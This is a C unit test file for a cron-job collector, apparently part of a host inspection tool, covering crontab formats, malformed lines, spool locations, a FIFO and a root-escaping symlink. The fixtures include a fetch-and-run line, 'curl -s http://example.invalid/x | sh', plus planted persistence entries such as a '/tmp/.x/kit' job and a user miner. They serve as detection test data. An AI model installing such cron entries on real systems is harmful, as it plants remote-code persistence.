/*
 * test_collect_cron.c — crontab parsing in the system, user and anacron
 * formats (keywords, environment lines, malformed lines warned about with
 * file and line), and a fixture root with every place cron looks: cron.d
 * with ignored backup names, Debian and RHEL spools, periodic scripts, at
 * jobs, and a FIFO named like a crontab that must not hang the scan.
 */
#include "testutil.h"
#include "collect/facts.h"
#include "core/host.h"
#include "core/util.h"

#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

static void free_entries(rs_vec *v)
{
	rs_facts f;
	rs_facts_init(&f);
	rs_vec_free(&f.cron);
	f.cron = *v;
	rs_facts_free(&f);
	rs_vec_init(v, sizeof(rs_cron_entry));
}

static const rs_cron_entry *entry(const rs_vec *v, size_t i)
{
	return rs_vec_at(v, i);
}

static const rs_cron_entry *find_command(const rs_vec *v, const char *command)
{
	for (size_t i = 0; i < v->len; i++)
		if (strcmp(entry(v, i)->command, command) == 0)
			return entry(v, i);
	return NULL;
}

static void test_system_format(void **state)
{
	(void)state;
	const char *text =
		"# /etc/crontab: system-wide crontab\n"
		"SHELL=/bin/sh\n"
		"PATH = /usr/local/sbin:/usr/bin\n"
		"\n"
		"17 *\t* * *\troot    cd / && run-parts --report /etc/cron.hourly\n"
		"*/5 1-5 * jan mon-fri www-data  /usr/bin/php  -q /srv/job.php 2>&1 | logger\n"
		"@reboot  alice /home/alice/start.sh\n";
	rs_vec v;
	rs_vec_init(&v, sizeof(rs_cron_entry));
	rs_test_capture_start();
	assert_int_equal(rs_parse_crontab(text, strlen(text), "/etc/crontab", NULL, "crontab", &v), 0);
	assert_int_equal(rs_test_captured_count(), 0);
	rs_test_capture_stop();
	assert_int_equal(v.len, 3);
	assert_string_equal(entry(&v, 0)->schedule, "17 * * * *");
	assert_string_equal(entry(&v, 0)->user, "root");
	assert_string_equal(entry(&v, 0)->command, "cd / && run-parts --report /etc/cron.hourly");
	assert_string_equal(entry(&v, 0)->kind, "crontab");
	assert_string_equal(entry(&v, 0)->file, "/etc/crontab");
	assert_int_equal(entry(&v, 0)->line, 5);
	assert_string_equal(entry(&v, 1)->schedule, "*/5 1-5 * jan mon-fri");
	assert_string_equal(entry(&v, 1)->user, "www-data");
	assert_string_equal(entry(&v, 1)->command, "/usr/bin/php  -q /srv/job.php 2>&1 | logger");
	assert_string_equal(entry(&v, 2)->schedule, "@reboot");
	assert_string_equal(entry(&v, 2)->user, "alice");
	assert_int_equal(entry(&v, 2)->line, 7);
	free_entries(&v);
}

static void test_user_format(void **state)
{
	(void)state;
	const char *text = "MAILTO=\"\"\n"
			   "0 3 * * * /usr/bin/backup --all\n"
			   "@daily curl -s http://example.invalid/x | sh\n";
	rs_vec v;
	rs_vec_init(&v, sizeof(rs_cron_entry));
	assert_int_equal(rs_parse_crontab(text, strlen(text), "/var/spool/cron/crontabs/bob", "bob",
					  "user", &v), 0);
	assert_int_equal(v.len, 2);
	assert_string_equal(entry(&v, 0)->user, "bob");
	assert_string_equal(entry(&v, 0)->command, "/usr/bin/backup --all");
	assert_string_equal(entry(&v, 1)->schedule, "@daily");
	assert_string_equal(entry(&v, 1)->kind, "user");
	free_entries(&v);
}

static void test_anacron_format(void **state)
{
	(void)state;
	const char *text = "SHELL=/bin/sh\n"
			   "START_HOURS_RANGE=3-22\n"
			   "1\t5\tcron.daily\trun-parts --report /etc/cron.daily\n"
			   "@monthly 15 cron.monthly run-parts /etc/cron.monthly\n"
			   "weekly 10 id cmd\n";
	rs_vec v;
	rs_vec_init(&v, sizeof(rs_cron_entry));
	rs_test_capture_start();
	assert_int_equal(rs_parse_crontab(text, strlen(text), "/etc/anacrontab", NULL, "anacron", &v), 1);
	assert_true(rs_test_captured_contains("/etc/anacrontab:5:"));
	rs_test_capture_stop();
	assert_int_equal(v.len, 2);
	assert_string_equal(entry(&v, 0)->schedule, "1");
	assert_string_equal(entry(&v, 0)->user, "root");
	assert_string_equal(entry(&v, 0)->command, "run-parts --report /etc/cron.daily");
	assert_string_equal(entry(&v, 0)->kind, "anacron");
	assert_string_equal(entry(&v, 1)->schedule, "@monthly");
	free_entries(&v);
}

static void test_malformed_lines(void **state)
{
	(void)state;
	char long_line[70000];
	memset(long_line, 'x', sizeof(long_line) - 1);
	long_line[sizeof(long_line) - 1] = '\0';
	char *text = rs_sprintf("1 * * * * root /good/first\n"   /* 1 */
				"1 * * * *\n"                    /* 2 no user */
				"1 * * * * root\n"               /* 3 no command */
				"this is junk\n"                 /* 4 */
				"@sometimes root /x\n"           /* 5 unknown keyword */
				"1 * * root /short\n"            /* 6 too few time fields */
				"* * * * * root %s\n"            /* 7 too long */
				"* * * * * root /nul@here\n"     /* 8 NUL */
				"1 * * * * root /good/last",     /* 9 */
				long_line);
	size_t len = strlen(text);
	strstr(text, "/nul@here")[4] = '\0';
	rs_vec v;
	rs_vec_init(&v, sizeof(rs_cron_entry));
	rs_test_capture_start();
	assert_int_equal(rs_parse_crontab(text, len, "/etc/cron.d/bad", NULL, "cron.d", &v), 7);
	for (int line = 2; line <= 8; line++) {
		char needle[32];
		snprintf(needle, sizeof(needle), "/etc/cron.d/bad:%d:", line);
		assert_true(rs_test_captured_contains(needle));
	}
	assert_true(rs_test_captured_contains("NUL"));
	assert_true(rs_test_captured_contains("too long"));
	rs_test_capture_stop();
	assert_int_equal(v.len, 2);
	assert_string_equal(entry(&v, 0)->command, "/good/first");
	assert_string_equal(entry(&v, 1)->command, "/good/last");
	assert_int_equal(entry(&v, 1)->line, 9);
	free_entries(&v);
	free(text);
}

static void write_mode(const char *dir, const char *rel, const char *content, mode_t mode)
{
	rs_test_write(dir, rel, content);
	char *path = rs_sprintf("%s/%s", dir, rel);
	assert_int_equal(chmod(path, mode), 0);
	free(path);
}

static void test_fixture_root(void **state)
{
	(void)state;
	char *dir = rs_test_tmpdir();
	rs_test_write(dir, "etc/crontab", "SHELL=/bin/sh\n25 6 * * * root run-parts /etc/cron.daily\n");
	rs_test_write(dir, "etc/cron.d/php", "09,39 * * * * root /usr/lib/php/sessionclean\n");
	rs_test_write(dir, "etc/cron.d/evil.sh", "* * * * * root /tmp/.x/kit\n");
	rs_test_write(dir, "etc/cron.d/php.dpkg-old", "* * * * * root /old\n");
	rs_test_write(dir, "etc/cron.d/php~", "* * * * * root /backup\n");
	rs_test_write(dir, "etc/cron.d/.placeholder", "* * * * * root /hidden\n");
	rs_test_write(dir, "var/spool/cron/crontabs/alice", "@reboot /home/alice/miner\n");
	rs_test_write(dir, "var/spool/cron/carol", "0 0 * * * /home/carol/rhel-job\n");
	write_mode(dir, "etc/cron.daily/logrotate", "#!/bin/sh\n", 0755);
	write_mode(dir, "etc/cron.daily/notexec", "#!/bin/sh\n", 0644);
	write_mode(dir, "etc/cron.daily/.placeholder", "", 0755);
	write_mode(dir, "etc/cron.hourly/check", "#!/bin/sh\n", 0700);
	rs_test_mkdir(dir, "etc/cron.weekly/subdir");
	rs_test_write(dir, "etc/anacrontab", "7 25 cron.weekly run-parts /etc/cron.weekly\n");
	rs_test_write(dir, "var/spool/cron/atjobs/a0000101b15de0", "#!/bin/sh\necho\n");
	rs_test_write(dir, "var/spool/cron/atjobs/.SEQ", "1\n");
	char *fifo = rs_sprintf("%s/var/spool/cron/crontabs/mallory", dir);
	assert_int_equal(mkfifo(fifo, 0644), 0);
	/* a symlink leading out of the root resolves inside it (to nothing) */
	char *escape = rs_sprintf("%s/etc/cron.d/escape", dir);
	assert_int_equal(symlink("../../../../../../../../etc/crontab", escape), 0);

	rs_host h;
	assert_int_equal(rs_host_init(&h, dir, NULL), 0);
	rs_facts f;
	rs_facts_init(&f);
	rs_test_capture_start();
	int problems = rs_collect_cron(&h, &f);
	assert_true(rs_test_captured_contains("var/spool/cron/crontabs/mallory: not a regular file"));
	rs_test_capture_stop();
	assert_int_equal(problems, 1);

	const rs_cron_entry *e = find_command(&f.cron, "run-parts /etc/cron.daily");
	assert_non_null(e);
	assert_string_equal(e->kind, "crontab");
	/* the escape link resolved to the root's own /etc/crontab, not the host's */
	size_t from_escape = 0;
	for (size_t i = 0; i < f.cron.len; i++)
		from_escape += strcmp(entry(&f.cron, i)->file, "/etc/cron.d/escape") == 0;
	assert_int_equal(from_escape, 1);
	e = find_command(&f.cron, "/usr/lib/php/sessionclean");
	assert_non_null(e);
	assert_string_equal(e->kind, "cron.d");
	assert_string_equal(e->file, "/etc/cron.d/php");
	assert_non_null(find_command(&f.cron, "/tmp/.x/kit"));
	assert_null(find_command(&f.cron, "/old"));
	assert_null(find_command(&f.cron, "/backup"));
	assert_null(find_command(&f.cron, "/hidden"));
	e = find_command(&f.cron, "/home/alice/miner");
	assert_non_null(e);
	assert_string_equal(e->user, "alice");
	assert_string_equal(e->kind, "user");
	e = find_command(&f.cron, "/home/carol/rhel-job");
	assert_non_null(e);
	assert_string_equal(e->user, "carol");
	e = find_command(&f.cron, "/etc/cron.daily/logrotate");
	assert_non_null(e);
	assert_string_equal(e->schedule, "@daily");
	assert_string_equal(e->kind, "periodic");
	assert_string_equal(e->user, "root");
	assert_null(find_command(&f.cron, "/etc/cron.daily/notexec"));
	assert_null(find_command(&f.cron, "/etc/cron.daily/.placeholder"));
	assert_null(find_command(&f.cron, "/etc/cron.weekly/subdir"));
	e = find_command(&f.cron, "/etc/cron.hourly/check");
	assert_non_null(e);
	assert_string_equal(e->schedule, "@hourly");
	e = find_command(&f.cron, "run-parts /etc/cron.weekly");
	assert_non_null(e);
	assert_string_equal(e->kind, "anacron");
	assert_string_equal(e->schedule, "7");
	e = find_command(&f.cron, "/var/spool/cron/atjobs/a0000101b15de0");
	assert_non_null(e);
	assert_string_equal(e->kind, "at");
	assert_string_equal(e->schedule, "2024-01-01T00:00Z");
	assert_null(find_command(&f.cron, "/var/spool/cron/atjobs/.SEQ"));
	rs_facts_free(&f);
	rs_host_free(&h);
	rs_test_rmrf(dir);
	free(dir);
	free(fifo);
	free(escape);
}

static void test_empty_root(void **state)
{
	(void)state;
	char *dir = rs_test_tmpdir();
	rs_host h;
	assert_int_equal(rs_host_init(&h, dir, NULL), 0);
	rs_facts f;
	rs_facts_init(&f);
	assert_int_equal(rs_collect_cron(&h, &f), 0);
	assert_int_equal(f.cron.len, 0);
	rs_facts_free(&f);
	rs_host_free(&h);
	rs_test_rmrf(dir);
	free(dir);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_system_format),
		cmocka_unit_test(test_user_format),
		cmocka_unit_test(test_anacron_format),
		cmocka_unit_test(test_malformed_lines),
		cmocka_unit_test(test_fixture_root),
		cmocka_unit_test(test_empty_root),
	};
	return cmocka_run_group_tests(tests, NULL, NULL);
}
